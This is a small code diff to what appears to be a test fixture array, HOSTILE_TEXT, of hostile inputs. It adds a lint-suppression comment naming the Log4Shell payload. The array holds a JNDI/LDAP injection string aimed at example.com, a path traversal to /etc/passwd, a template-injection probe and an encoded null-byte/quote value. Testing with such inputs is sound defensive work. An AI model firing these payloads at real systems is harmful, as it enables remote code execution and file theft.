@@ -74,6 +74,7 @@ const HOSTILE_TEXT = [
   'שלום עולם مرحبا',
   '👨‍👩‍👧‍👦🔥💸',
   '../../../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, sent as it is
   '${jndi:ldap://example.com/a}',
   '{{7*7}}',
   '%00%27',
